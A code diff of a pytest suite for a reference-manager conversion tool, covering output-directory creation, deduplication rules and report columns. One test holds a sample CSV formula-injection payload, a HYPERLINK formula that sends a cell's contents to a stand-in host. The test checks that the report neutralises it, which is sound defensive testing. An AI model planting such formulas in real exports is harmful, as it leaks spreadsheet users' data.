@@ -58,6 +58,28 @@ def copy_corpus(tmp_path: Path, *names: str) -> list[Path]:
 # -o DIR/ and -j ------------------------------------------------------------------------------
 
 
+def test_output_directory_ending_in_slash_is_created_with_its_parents(tmp_path: Path) -> None:
+    """``-o out/new/`` makes the directory as ``mkdir -p`` would, then writes into it."""
+    source = tmp_path / "refs.ris"
+    source.write_text(GOOD, encoding="utf-8")
+    target = tmp_path / "out" / "new"
+    result = risx_run("convert", source, "-o", f"{target}/", "-t", "bibtex")
+    assert result.returncode == 0, result.stderr
+    assert "@article{" in (target / "refs.bib").read_text(encoding="utf-8")
+
+
+def test_output_directory_that_cannot_be_created_is_io001(tmp_path: Path) -> None:
+    source = tmp_path / "refs.ris"
+    source.write_text(GOOD, encoding="utf-8")
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a directory")
+    result = risx_run("convert", source, "-o", f"{blocker}/sub/", "-t", "bibtex")
+    assert result.returncode == 1
+    assert f"{blocker}/sub: error[IO001]: cannot create the output directory" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert blocker.read_text() == "not a directory"
+
+
 def test_jobs_give_identical_outputs_and_messages(tmp_path: Path) -> None:
     inputs = [corpus_path("db-exports", name) for name in BATCH]
     runs = []
@@ -156,18 +178,19 @@ def test_dedupe_ovid_pair_finds_all_six_by_doi(tmp_path: Path) -> None:
     result = risx_run("convert", "--merge", "--dedupe", "--dedupe-report", report,
                       corpus_path(*OVID), corpus_path(*OVID_ZOTERO), "-o", target)
     assert result.returncode == 0, result.stderr
-    assert ("risx: dedupe: 6 duplicate(s) dropped (6 by DOI, 0 by title+year+author); "
+    assert ("risx: dedupe: 6 duplicate(s) removed (6 by DUP-R01); 0 pair(s) sent to review; "
             "6 record(s) kept") in result.stderr
     items = json.loads(target.read_text())
     assert len(items) == 6
     rows = list(csv.DictReader(report.open(encoding="utf-8")))
     assert len(rows) == 6
-    assert {r["rule"] for r in rows} == {"doi"}
+    assert {r["rule"] for r in rows} == {RULE_DOI}
     # The Ovid native records are the more complete ones: they are kept, Zotero's dropped.
     assert {Path(r["kept_file"]).name for r in rows} == {OVID[1]}
-    assert {Path(r["dropped_file"]).name for r in rows} == {OVID_ZOTERO[1]}
-    assert all(r["kept_title"] == r["dropped_title"] for r in rows)
-    assert [i["DOI"] for i in items] == [r["key"] for r in rows]  # input order
+    assert {Path(r["removed_file"]).name for r in rows} == {OVID_ZOTERO[1]}
+    assert [r["removed_index"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
+    assert all(r["kept_title"] == r["removed_title"] for r in rows)
+    assert [i["DOI"].lower() for i in items] == [r["removed_doi"].lower() for r in rows]
 
 
 def test_dedupe_pubmed_pair_holds_no_duplicates() -> None:
@@ -175,7 +198,7 @@ def test_dedupe_pubmed_pair_holds_no_duplicates() -> None:
     result = risx_run("convert", "--dedupe", "-t", "csl-json", corpus_path(*PUBMED_ENDNOTE),
                       corpus_path(*PUBMED_ZOTERO))
     assert result.returncode == 0
-    assert "dedupe: 0 duplicate(s) dropped" in result.stderr
+    assert "dedupe: 0 duplicate(s) removed" in result.stderr
     assert len(json.loads(result.stdout)) == 12
 
 
@@ -185,7 +208,7 @@ def test_dedupe_by_title_year_author_when_a_doi_is_missing(tmp_path: Path) -> No
     no_doi.write_text("".join(line for line in text.splitlines(keepends=True)
                               if not line.startswith("DO  -")))
     result = risx_run("convert", "-t", "csl-json", "--dedupe", corpus_path(*OVID), no_doi)
-    assert "dedupe: 6 duplicate(s) dropped (0 by DOI, 6 by title+year+author)" in result.stderr
+    assert "dedupe: 6 duplicate(s) removed (6 by DUP-R02)" in result.stderr
     assert len(json.loads(result.stdout)) == 6
     # -q silences the summary.
     assert risx_run("convert", "-q", "-t", "csl-json", "--dedupe", corpus_path(*OVID),
@@ -202,7 +225,8 @@ def test_dedupe_fills_missing_fields_and_never_merges_different_dois() -> None:
     kept = result.records[0]
     assert kept.source == ovid[0].source  # the more complete record is kept ...
     assert kept.abstract == zotero[0].abstract  # ... and its gap filled from the other
-    assert result.by_rule() == {RULE_DOI: 1, RULE_TITLE: 0}
+    assert result.by_rule()[RULE_DOI] == 1
+    assert result.by_rule()[RULE_TITLE] == 0 and sum(result.by_rule().values()) == 1
     # Same title, year and author but another DOI: a different work (erratum, preprint).
     other = dataclasses.replace(zotero[0], doi="10.9999/another")
     assert len(dedupe([ovid[0], other]).records) == 2
@@ -297,7 +321,7 @@ def test_dedupe_report_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) 
                       *inputs, "-o", tmp_path / "all.json")
     assert result.returncode == 0, result.stderr
     (row,) = list(csv.DictReader(report.open(encoding="utf-8")))
-    assert row["kept_title"] == row["dropped_title"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"Open")'
-    assert row["key"] == "10.1000/x"  # ordinary text is written as it is
+    assert row["kept_title"] == row["removed_title"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"Open")'
+    assert row["removed_doi"] == "10.1000/x"  # ordinary text is written as it is
     # The converted data itself keeps the title exactly.
     assert json.loads((tmp_path / "all.json").read_text())[0]["title"].startswith("=HYPERLINK(")
